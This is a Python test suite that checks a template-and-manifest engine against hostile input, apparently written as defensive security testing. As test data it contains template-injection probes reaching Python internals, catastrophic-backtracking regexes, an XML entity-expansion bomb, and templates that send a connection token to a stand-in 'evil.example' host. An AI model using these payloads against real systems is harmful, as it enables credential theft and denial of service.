"""Hostile templates, folders and answers: they cannot run long, grow memory, reach into Python or read a secret that the call does not declare."""

import asyncio
import contextlib
import tracemalloc

import msgspec
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bounds import examples, little_time
from polyport.engine.operation import Understood, act, build_scope, compile_operation
from polyport.engine.trace import CallFailed
from polyport.engine.validate import compile_validator
from polyport.errors import PolyportError
from polyport.kinds.bodies import encode_json
from polyport.kinds.decoders import DECODERS, UnreadableAnswer
from polyport.kinds.filters import FILTERS
from polyport.manifest.cases import CaseConnection
from polyport.manifest.load import load_partner
from polyport.net.message import Reply
from polyport.paths import MISSING
from polyport.template import RenderFault, compile_value
from polyport.testing.cases import open_case_caller

MEGABYTE = 1024 * 1024
SECRET = "canary-5e1f-secret"


@contextlib.contextmanager
def within(megabytes):
    """What happens inside takes little time and no more memory."""
    tracemalloc.start()
    try:
        with little_time():
            yield
        used = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert used < megabytes * MEGABYTE


@pytest.mark.parametrize(
    "source",
    [
        {f"k{index}": "x{{a}}" for index in range(1000)},
        {f"k{index}": "{{a}}" for index in range(1000)},
        {f"k{index}": "{{b | upper}}" for index in range(1000)},
        ["{{b | base64}}"] * 1000,
        {f"k{index}": ["{{c}}"] for index in range(1000)},
        {"{{b}}" + str(index): 1 for index in range(1000)},
    ],
    ids=["in texts", "whole", "through filters", "encoded", "lists", "keys"],
)
def test_one_large_value_in_many_places_is_refused_before_it_fills_the_memory(source):
    template = compile_value(source, FILTERS)
    scope = {"a": "x" * (4 * MEGABYTE), "b": "y" * (MEGABYTE // 2), "c": [1] * 200_000}
    with within(megabytes=160), pytest.raises(RenderFault, match="beyond their limit"):
        template.render(scope)


def test_a_template_that_was_refused_once_renders_the_next_values():
    template = compile_value({f"k{index}": "x{{a}}" for index in range(100)}, FILTERS)
    with pytest.raises(RenderFault):
        template.render({"a": "x" * MEGABYTE})
    for _time in range(3):
        assert template.render({"a": "x" * 100_000})["k99"].startswith("xxx")


def test_large_values_in_few_places_are_sent():
    template = compile_value({"a": "{{a}}", "b": "{{a}}", "c": "{{b | upper}}"}, FILTERS)
    assert len(encode_json(template.render({"a": "x" * (6 * MEGABYTE), "b": "y" * MEGABYTE}))[1]) > 12 * MEGABYTE


@pytest.mark.parametrize(
    "name", ["a.__class__", "a.__init__.__globals__", "a.mro", "connection.__dict__", "steps.__len__", "a[0].__class__", "b.real"]
)
def test_a_template_sees_values_and_nothing_of_python(name):
    scope = {"a": ["text"], "b": 1, "connection": {"x": 1}, "steps": {}}
    assert compile_value("{{" + name + "}}", FILTERS).render(scope) is MISSING


PARTNER = {
    "id": 9002,
    "slug": "hostile",
    "title": "Hostile",
    "owners": ["tests"],
    "base": "https://api.hostile.example",
    "connection": {
        "fields": [{"name": "account", "type": "string", "label": "Account"}],
        "auth": [
            {
                "name": "key",
                "label": "Key",
                "fields": [{"name": "token", "type": "string", "label": "Token", "required": True, "secret": True}],
                "scheme": {"kind": "bearer", "token": "token"},
            }
        ],
    },
    "verified": {"how": "cases", "on": "2026-11-25"},
}
ACTION = {
    "id": 90020001,
    "name": "act",
    "title": "Act",
    "idempotent": False,
    "fields": [{"name": "a", "type": "string", "label": "A"}, {"name": "n", "type": "integer", "label": "N"}],
    "sections": [{"name": "rows", "label": "Rows", "fields": [{"name": "b", "type": "string", "label": "B"}]}],
    "call": {"method": "POST", "path": "/act/{{n | default: 1}}", "query": {"q": "{{a}}"}, "headers": {"X-A": "{{n}}"}, "body": {"a": "{{a}}", "rows": "{{rows}}"}},
    "errors": [{"status": [400], "kind": "invalid_input", "message": "error.message", "code": "error.code"}],
    "result": {"at": "data", "fields": [{"name": "id", "type": "integer", "label": "ID"}]},
}  # fmt: skip


def folder(root, partner=PARTNER, action=ACTION):
    (root / "actions").mkdir(exist_ok=True)
    (root / "partner.yaml").write_text(yaml.safe_dump(partner, allow_unicode=True), "utf-8")
    (root / "actions" / "act.yaml").write_text(yaml.safe_dump(action, allow_unicode=True), "utf-8")
    return root


class Network:
    """Notes what is sent, answers the same to all."""

    def __init__(self, body=b"{}"):
        self.body = body
        self.sent = []

    async def send(self, request):
        self.sent.append(request)
        return Reply(status=200, headers=(("content-type", "application/json"),), body=self.body)


def run(partner, data, network):
    """Run the action of a loaded partner; its own errors are let go."""
    program = compile_operation(partner, partner.actions[0])
    checked = compile_validator(program.schema).check(data)
    known = Understood(schema=program.schema, checked=checked)
    with contextlib.suppress(PolyportError, CallFailed):
        connection = CaseConnection(auth="key", fields={"token": SECRET, "account": "a1"})
        caller = open_case_caller(partner, connection, network, "2026-11-24T12:00:00Z")
        scope = build_scope(program, caller, known)
        return asyncio.run(act(caller, program, known, scope, lambda _trace: None))
    return None


def problems(root, **changes):
    return [str(problem) for problem in load_partner(folder(root, action={**ACTION, **changes})).problems]


@pytest.mark.parametrize(
    "call",
    [
        {"path": "/act", "body": {"stolen": "{{connection.token}}"}, "method": "POST"},
        {"path": "/act", "query": {"stolen": "x{{connection.token | base64}}"}},
        {"path": "/act/{{connection.token}}"},
        {"url": "https://evil.example/{{connection.token}}"},
        {"path": "/act", "headers": {"X-Stolen": "{{connection.token}}"}},
    ],
)
def test_a_secret_outside_of_auth_is_a_fault_of_the_folder(tmp_path, call):
    assert any("token" in problem for problem in problems(tmp_path, call=call))


@pytest.mark.parametrize("template", ["{{connection}}", "{{connection | json}}", '{{connection["token"]}}', "{{connection[*]}}"])
def test_no_way_of_reading_the_connection_gives_its_secrets(tmp_path, template):
    action = {**ACTION, "call": {"method": "POST", "path": "/act", "body": {"stolen": template}}}
    partner = load_partner(folder(tmp_path, action=action)).partner
    network = Network()
    if partner is not None:
        run(partner, {}, network)
    assert all(SECRET.encode() not in (request.body or b"") for request in network.sent)


def test_what_is_no_secret_of_the_connection_is_sent(tmp_path):
    action = {**ACTION, "call": {"method": "POST", "path": "/act", "body": {"shown": "{{connection.account}}"}}}
    network = Network()
    run(load_partner(folder(tmp_path, action=action)).partner, {}, network)
    assert [request.body for request in network.sent] == [b'{"shown":"a1"}']


def test_an_operation_has_a_bounded_number_of_calls(tmp_path):
    calls = [{"path": "/act"}] * 21
    told = problems(tmp_path, call=None, calls=calls)
    assert any("20" in problem for problem in told)


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|a)*$", "(a|aa)+$", "([a-z]+)*!"])
def test_a_pattern_of_a_folder_takes_time_in_proportion_to_the_value(tmp_path, pattern):
    action = {**ACTION, "fields": [{"name": "a", "type": "string", "label": "A", "pattern": pattern}]}
    action = {**action, "sections": [], "call": {"path": "/act", "query": {"q": "{{a}}"}}}
    loaded = load_partner(folder(tmp_path, action=action))
    assert loaded.partner is not None, [str(problem) for problem in loaded.problems]
    validator = compile_validator(compile_operation(loaded.partner, loaded.partner.actions[0]).schema)
    with within(megabytes=50):
        validator.check({"a": "a" * 50_000 + "#"})


@pytest.mark.parametrize("pattern", ["(?=a)b", r"(a)\1", "a{1000}{1000}{1000}", "(" * 500])
def test_a_pattern_that_is_not_linear_or_too_large_is_a_fault_of_the_folder(tmp_path, pattern):
    fields = [{"name": "a", "type": "string", "label": "A", "pattern": pattern}]
    with within(megabytes=200):
        assert any("pattern" in problem for problem in problems(tmp_path, fields=fields))


@pytest.mark.parametrize("kind", sorted(DECODERS))
@pytest.mark.parametrize(
    "body",
    [
        b"[" * MEGABYTE,
        b'{"a":' * 200_000,
        b"[{}," * 200_000,
        b"<a>" * 300_000,
        b"<a " + b"b='c' " * 150_000 + b"/>",
        b"<!DOCTYPE a [<!ENTITY b 'cccccccc'>" + b"<!ENTITY c '&b;&b;&b;&b;'>" * 100 + b"]><a>&c;</a>",
        b"<a>" + b"&lt;" * 200_000 + b"</a>",
        b'"' * MEGABYTE,
        b"," * MEGABYTE,
        b"a=b&" * 200_000,
        b"%" * MEGABYTE,
        b"1" * MEGABYTE,
        b"1e" + b"9" * 5_000,
        b"\xff" * MEGABYTE,
        b"\r\n" * 500_000,
    ],
    ids=lambda body: body[:8].decode("latin-1"),
)
def test_an_answer_made_to_be_slow_is_read_in_time_or_refused(kind, body):
    reply = Reply(status=200, headers=(("content-type", "application/json; charset=utf-16"),), body=body)
    with within(megabytes=400), contextlib.suppress(UnreadableAnswer):
        DECODERS[kind](reply)


HOSTILE = st.one_of(
    st.sampled_from([
        "{{", "{{a", "{{a | join}}", "{{connection.token}}", "{{steps.x.y[0]}}", '{{a | split: ""}}', "{{...}}", "...", '{{a | matches: "(a+)+$"}}', "a.b[", "[*][*]",
        "a[99999999999999999999]", "", " ", "\x00", "/{{a}}/..", "https://{{connection.account}}.evil.example/", "http://[::1", "{{a}}" * 500, "string[]", "file", "xml",
        "csv", "form", "multipart", "bytes", "object[]", "2026-13-45", "%Q", "9" * 400, "name", "a", "{{each.a}}", "{{run.key}}", "{{rows[*].b}}",
    ]),
    st.none(), st.booleans(), st.integers(-1, 3), st.just(2**70), st.just([]), st.just({}), st.just({"at": "x"}), st.just(["x"]),
)  # fmt: skip


def places(value, place=()):
    yield place
    if isinstance(value, dict | list):
        for key in value if isinstance(value, dict) else range(len(value)):
            yield from places(value[key], (*place, key))


def replaced(value, place, new):
    if not place:
        return new
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[place[0]] = replaced(copy[place[0]], place[1:], new)
    return copy


@settings(
    max_examples=examples(60),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.data())
def test_a_folder_with_any_part_replaced_is_refused_with_words_or_runs(tmp_path, drawn):
    partner, action = PARTNER, ACTION
    for _change in range(drawn.draw(st.integers(1, 3))):
        if drawn.draw(st.integers(0, 3)):
            action = replaced(action, drawn.draw(st.sampled_from(list(places(action)))), drawn.draw(HOSTILE))
        else:
            partner = replaced(partner, drawn.draw(st.sampled_from(list(places(partner)))), drawn.draw(HOSTILE))
    loaded = load_partner(folder(tmp_path, partner, action))
    assert loaded.partner is not None or all(str(problem).strip() for problem in loaded.problems)
    if loaded.partner is None or loaded.partner.file.connection is None or not loaded.partner.actions[0].steps:
        return
    network = Network(drawn.draw(st.sampled_from([b"{}", b"[]", b'{"data": {"id": "x"}}', b"null", b"<a/>", b'{"data": [[1]]}'])))
    done = run(loaded.partner, {"a": "x/../y", "n": 3, "rows": [{"b": "c"}]}, network)
    if done is not None:
        msgspec.json.encode(done.result)
    assert all(request.url.startswith("https://") for request in network.sent)
